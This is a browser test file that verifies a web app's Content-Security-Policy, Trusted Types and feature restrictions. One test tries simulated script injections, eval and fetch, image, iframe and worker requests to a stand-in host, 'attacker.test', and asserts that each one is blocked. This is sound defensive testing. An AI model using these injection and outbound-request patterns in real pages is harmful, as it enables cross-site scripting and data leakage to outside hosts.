import { openAs } from '#tests/browser/support/app.ts';
import { expect, test } from '#tests/browser/support/test.ts';

test('decision 053: the served build has its policy in the page and in the header', async ({ request }) => {
  const answer = await request.get('/', { headers: { accept: 'text/html' } });
  const policy = answer.headers()['content-security-policy'] ?? '';
  console.info(`Content-Security-Policy: ${policy}`);
  expect(policy).toMatch(
    /^default-src 'none'; script-src (?:'sha256-[\w+/]{43}=' ){5}'strict-dynamic'; style-src-elem 'self'(?: 'sha256-[\w+/]{43}='){2}; /,
  );
  expect(policy).toContain("; require-trusted-types-for 'script'; trusted-types sanitiser; ");
  expect(policy).not.toMatch(/unsafe-eval|(?:script-src|style-src-elem)[^;]*unsafe-inline|https?:|\*/);
  const [, inPage] = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(await answer.text()) ?? [];
  expect(policy).toBe(`${inPage}; frame-ancestors 'none'`);
});

test('fault D19: an injected script creates no HTML, runs no other script and reaches no host; the error log reports it', async ({
  page,
  expectConsole,
}) => {
  expectConsole('error', /Content Security Policy|requires 'Trusted(?:HTML|Script|ScriptURL)'/i);
  expectConsole('request', /^GET https:\/\/attacker\.test\/x\.png csp$/);
  const foreign: string[] = [];
  page.on('response', (response) => response.url().includes('attacker') && foreign.push(response.url()));
  await openAs(page, 'editor');
  const tried = await page.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      html: () => Object.assign(document.createElement('div'), { innerHTML: '<b>x</b>' }),
      parsed: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
      script: () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.__xss=1' })),
      address: () => Object.assign(document.createElement('script'), { src: 'https://attacker.test/x.js' }),
      // oxlint-disable-next-line no-eval -- what an attacker would try
      evaluated: () => (0, eval)('window.__xss=1') as unknown,
      worker: () => new Worker('https://attacker.test/x.js'),
      policy: () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
        ).trustedTypes.createPolicy('other', {}),
      called: () => fetch('https://attacker.test/'),
    };
    const ends = Object.entries(attempts).map(async ([name, attempt]) => {
      // Playwright’s own calls may use `eval` while they run.
      await new Promise(requestAnimationFrame);
      try {
        await attempt();
        return [name, 'done'];
      } catch (error) {
        return [name, (error as Error).name];
      }
    });
    document.body.append(Object.assign(new Image(), { src: 'https://attacker.test/x.png', alt: '' }));
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://attacker.test/' }));
    return Object.fromEntries(await Promise.all(ends)) as Record<string, string>;
  });
  expect(tried).toEqual({
    html: 'TypeError',
    parsed: 'TypeError',
    script: 'TypeError',
    address: 'TypeError',
    evaluated: 'EvalError',
    worker: 'TypeError',
    policy: 'TypeError',
    called: 'TypeError',
  });
  expect([await page.evaluate(() => '__xss' in window), foreign]).toEqual([false, []]);
  await page.getByRole('button', { name: /^错误日志：/ }).click();
  await expect(page.getByRole('dialog', { name: '错误日志' })).toContainText('img-src https://attacker.test');
});

test('fault J3: injected code cannot ask for camera, position or devices; the features of the app are allowed', async ({
  page,
}) => {
  // A browser warning about an unknown name would fail this test, like any other.
  await openAs(page, 'editor');
  const allowed = await page.evaluate(() =>
    (document as unknown as { featurePolicy: { allowedFeatures: () => string[] } }).featurePolicy.allowedFeatures(),
  );
  expect(allowed).toEqual(expect.arrayContaining(['clipboard-write', 'fullscreen', 'screen-wake-lock']));
  const dangerous = [
    'camera',
    'microphone',
    'geolocation',
    'display-capture',
    'clipboard-read',
    'payment',
    'usb',
    'hid',
  ];
  expect(dangerous.filter((name) => allowed.includes(name))).toEqual([]);
});
